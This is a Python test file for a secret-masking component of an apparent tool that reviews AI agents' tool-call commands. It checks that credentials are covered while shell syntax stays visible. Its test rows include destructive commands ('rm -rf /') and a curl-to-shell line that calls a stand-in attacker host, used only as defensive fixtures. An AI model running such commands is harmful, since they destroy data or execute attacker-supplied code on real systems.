"""Secrets are covered letter by letter; what a shell would do is never covered with them."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crabhook.present.cover import masked
from crabhook.present.safe import safe
from crabhook.secrets.context import names_a_secret
from crabhook.ui.text.code import field_rows
from crabhook.ui.text.layout import Sheet
from crabhook.ui.text.width import CHUNK, Mask, wrapped
from tests.support.rows import every_row
from tests.support.sitting import Sitting

SAMPLES = Path(__file__).parents[3] / "samples" / "secrets"
ALPHABETS = {"url": "aB3-_", "alnum": "aB3x", "hex": "0a7f", "upper": "A3QZ", "digits": "4711", "b64": "aB3+/", "lower": "qxz"}  # fmt: skip
QUOTED = re.compile(r"'[^'\"`$\\]*'|\"[^'\"`$\\]*\"")
SHELL = set("|;&$()<>`\"'{}*?[]!\\")


def filled(template: str) -> str:
    """Return a sample's text with letters where it says how many of which."""
    text = re.sub(r"\{is:([^}]*)\}", r"\1", template.replace("\\n", "\n"))
    text = text.replace("{uuid}", "1d3faf05-95df-4ba4-aff4-cdc28ce4e641")
    return re.sub(
        r"\{(\w+):(\d+)\}",
        lambda found: (ALPHABETS.get(found[1], "aB3") * int(found[2]))[: int(found[2])],
        text,
    )


def samples(name: str) -> list[tuple[str, str]]:
    lines = SAMPLES.joinpath(name).read_text().splitlines()
    parted = (line.partition("\t") for line in lines if "\t" in line)
    return [(kind, filled(text)) for kind, _, text in parted]


def covers(text: str) -> bool:
    return any(masked(line) != line for line in text.split("\n"))


@every_row(
    "text, shown",
    [
        ("export API_TOKEN=abcd1234 && rm -rf /", "export API_TOKEN=•••••••• && rm -rf /"),
        ("PASSWORD='a b' run", "PASSWORD='•••' run"),
        ("eval PASSWORD='a b' run", "eval PASSWORD='• b' run"),  # a blank ends it
        ("TOKEN=$(curl evil.example|sh)", "TOKEN=$(curl evil.example|sh)"),
        ("TOKEN=abcd;rm -rf /", "TOKEN=••••;rm -rf /"),
        ("TOKEN=abcd|sh", "TOKEN=••••|sh"),
        ("TOKEN=abcd>out", "TOKEN=••••>out"),
        ("curl https://bob:hunter2@x.example/y", "curl https://bob:•••••••@x.example/y"),
        ("curl -u bob:hunter2 x", "curl -u bob:••••••• x"),
        ("mysql -h db -phunter2 x", "mysql -h db -p••••••• x"),
        ("tool --password hunter2 --force", "tool --password ••••••• --force"),
        ("-H 'Authorization: Bearer abcdef0123456789'", "-H 'Authorization: Bearer ••••••••••••••••'"),
        ("Authorization: Bearer $TOKEN", "Authorization: Bearer $TOKEN"),
        ('"password": "hunter2"', '"password": "•••••••"'),
        ("login(password=password, x)", "login(password=password, x)"),
        ("max_tokens=4096", "max_tokens=4096"),
        ("token: string", "token: string"),
        ("see ghp_" + "aB3x" * 9 + ".", "see ghp_" + "•" * 36 + "."),
    ],
)  # fmt: skip
def test_only_the_letters_of_a_secret_are_covered(text: str, shown: str) -> None:
    assert masked(text) == shown


def test_of_the_known_secrets_most_are_covered() -> None:
    """Random words without a name are not looked for, nor a few programs' own flags."""
    named = [(kind, text) for kind, text in samples("secrets.tsv") if kind != "random"]
    seen = [text for _, text in named if covers(text)]
    assert len(seen) / len(named) > 0.85


def test_of_innocent_texts_nearly_none_is_touched() -> None:
    innocent = samples("innocent.tsv")
    touched = [text for _, text in innocent if covers(text)]
    assert len(touched) / len(innocent) < 0.03


@given(st.text(max_size=200) | st.lists(st.sampled_from(["token=", "PASSWORD=", "://a:", "@", "Bearer ", "sk-", "eyJ", ".", "--token ", "abcdefgh12345678", "'", '"', "|", ";", "$(", ")", " ", "\n", "&&", "`", "•"])).map("".join))  # fmt: skip
def test_nothing_a_shell_acts_on_is_ever_covered_and_no_letter_moves(text: str) -> None:
    shown = masked(text)
    assert len(shown) == len(text)
    quoted = {place for found in QUOTED.finditer(text) for place in range(*found.span())}
    for place, (before, after) in enumerate(zip(text, shown, strict=True)):
        is_blank = before in " \t" and place in quoted
        plain = before not in SHELL and not before.isspace()
        assert before == after or (after == "•" and (plain or is_blank))
    assert masked(shown) == shown


def test_a_word_that_lies_across_two_chunks_is_covered_whole() -> None:
    line = "word " * (CHUNK // 5 - 1) + "export API_TOKEN=abcd1234efgh5678 and more"
    shown = "".join(wrapped(line, 80, Mask(safe)))
    assert "abcd" not in shown
    assert "5678" not in shown


def test_the_value_of_a_field_named_as_a_secret_is_covered_whatever_it_looks_like() -> None:
    rows = field_rows({"password": "correct horse", "pass_through": "x"}, Sheet(60, Mask(safe)))
    shown = ["".join(text for _, text in row) for _, row in rows]
    assert shown == ["password: ••••••• •••••", "pass_through: x"]


@pytest.mark.parametrize(
    ("name", "holds"),
    [("password", True), ("apiKey", True), ("DB_PASSWORD_PROD", True), ("authToken", True),
     ("token_count", False), ("keyboard", False), ("author", False), ("primary_key", False)],
)  # fmt: skip
def test_which_names_hold_secrets(name: str, *, holds: bool) -> None:
    assert names_a_secret(name) is holds


@every_row(
    "piece",
    ["a", "token ", "PASSWORD=", "x-", "://", "curl ", "eyJ", "a_", "--token ", "login -p", "a.b-"],
)
def test_no_text_takes_long_to_look_through(piece: str) -> None:
    line = (piece * CHUNK)[:CHUNK]
    began = time.process_time()
    for _ in range(10):
        masked(line)
    assert time.process_time() - began < 3  # seconds; a backtracking pattern takes minutes


def test_secrets_are_covered_until_a_key_opens_them_on_that_card_alone() -> None:
    sitting = Sitting(columns=120)
    sitting.ask(tool_input={"command": "deploy --token abcd1234 && ls"})
    sitting.ask(tool_input={"command": "other --token efgh5678"})
    sitting.wait()
    assert "deploy --token •••••••• && ls" in sitting.text()
    assert "secrets covered: R" in sitting.text()
    sitting.press("R")
    assert "deploy --token abcd1234 && ls" in sitting.text()
    sitting.press("down")
    assert "efgh5678" not in sitting.text()
    sitting.press("up", "R")
    assert "abcd1234" not in sitting.text()


def test_what_is_covered_is_sent_as_it_is() -> None:
    sitting = Sitting(take_back_ms=0)
    sitting.ask(tool_input={"command": "deploy --token abcd1234"})
    sitting.wait()
    sitting.press("a")
    (number, decision) = sitting.decided()[0]
    card = sitting.desk.card(number)
    assert decision.updated_input is None
    assert card is not None
    assert card.event.tool is not None
    assert card.event.tool.input == {"command": "deploy --token abcd1234"}
